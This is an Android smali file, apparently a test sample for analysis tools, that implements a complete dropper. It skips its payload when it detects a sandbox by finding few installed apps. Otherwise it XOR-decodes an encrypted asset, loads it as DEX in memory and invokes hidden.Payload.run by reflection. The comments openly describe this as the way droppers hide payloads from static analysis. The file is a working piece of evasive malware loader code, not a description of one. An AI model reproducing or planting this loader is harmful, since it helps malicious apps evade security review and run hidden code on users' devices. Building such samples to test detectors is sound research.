.class public Lhidden/Main;
.super Landroid/app/Activity;

# A payload hidden from static analysis behind an emulator check, as droppers hide theirs: on
# a device with enough apps installed the app decrypts assets/payload.bin (each byte XOR
# 0x5a), loads that DEX from memory and calls hidden.Payload.run(Context) by reflection. The
# APK's own code holds neither the payload's source nor its sink.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-static {p0}, Lhidden/Main;->isEmulator(Landroid/content/Context;)Z
    move-result v0
    if-nez v0, :quiet
    invoke-direct {p0}, Lhidden/Main;->unpack()V
    :quiet
    return-void
.end method

# A sandbox has next to no apps installed (the emulated package manager lists the app alone; a
# phone in use lists dozens): return getPackageManager().getInstalledPackages(0).size() < 3;
.method public static isEmulator(Landroid/content/Context;)Z
    .registers 3
    invoke-virtual {p0}, Landroid/content/Context;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v0
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Landroid/content/pm/PackageManager;->getInstalledPackages(I)Ljava/util/List;
    move-result-object v0
    invoke-interface {v0}, Ljava/util/List;->size()I
    move-result v0
    const/4 v1, 0x3
    if-ge v0, v1, :real
    const/4 v0, 0x1
    return v0
    :real
    const/4 v0, 0x0
    return v0
.end method

# InputStream in = getAssets().open("payload.bin"); read it all; XOR every byte with 0x5a;
# ClassLoader l = new InMemoryDexClassLoader(ByteBuffer.wrap(bytes), getClassLoader());
# l.loadClass("hidden.Payload").getMethod("run", Context.class).invoke(null, this);
.method private unpack()V
    .registers 9
    invoke-virtual {p0}, Lhidden/Main;->getAssets()Landroid/content/res/AssetManager;
    move-result-object v0
    const-string v1, "payload.bin"
    invoke-virtual {v0, v1}, Landroid/content/res/AssetManager;->open(Ljava/lang/String;)Ljava/io/InputStream;
    move-result-object v0
    new-instance v1, Ljava/io/ByteArrayOutputStream;
    invoke-direct {v1}, Ljava/io/ByteArrayOutputStream;-><init>()V
    const/16 v2, 0x400
    new-array v2, v2, [B
    :read
    invoke-virtual {v0, v2}, Ljava/io/InputStream;->read([B)I
    move-result v3
    if-lez v3, :decode
    const/4 v4, 0x0
    invoke-virtual {v1, v2, v4, v3}, Ljava/io/ByteArrayOutputStream;->write([BII)V
    goto :read
    :decode
    invoke-virtual {v1}, Ljava/io/ByteArrayOutputStream;->toByteArray()[B
    move-result-object v2
    array-length v3, v2
    const/4 v4, 0x0
    :xor
    if-ge v4, v3, :load
    aget-byte v5, v2, v4
    xor-int/lit8 v5, v5, 0x5a
    int-to-byte v5, v5
    aput-byte v5, v2, v4
    add-int/lit8 v4, v4, 0x1
    goto :xor
    :load
    invoke-static {v2}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
    move-result-object v2
    new-instance v3, Ldalvik/system/InMemoryDexClassLoader;
    invoke-virtual {p0}, Lhidden/Main;->getClassLoader()Ljava/lang/ClassLoader;
    move-result-object v4
    invoke-direct {v3, v2, v4}, Ldalvik/system/InMemoryDexClassLoader;-><init>(Ljava/nio/ByteBuffer;Ljava/lang/ClassLoader;)V
    const-string v4, "hidden.Payload"
    invoke-virtual {v3, v4}, Ljava/lang/ClassLoader;->loadClass(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v3
    const/4 v4, 0x1
    new-array v4, v4, [Ljava/lang/Class;
    const-class v5, Landroid/content/Context;
    const/4 v6, 0x0
    aput-object v5, v4, v6
    const-string v5, "run"
    invoke-virtual {v3, v5, v4}, Ljava/lang/Class;->getMethod(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;
    move-result-object v3
    const/4 v4, 0x1
    new-array v4, v4, [Ljava/lang/Object;
    aput-object p0, v4, v6
    const/4 v5, 0x0
    invoke-virtual {v3, v5, v4}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    return-void
.end method
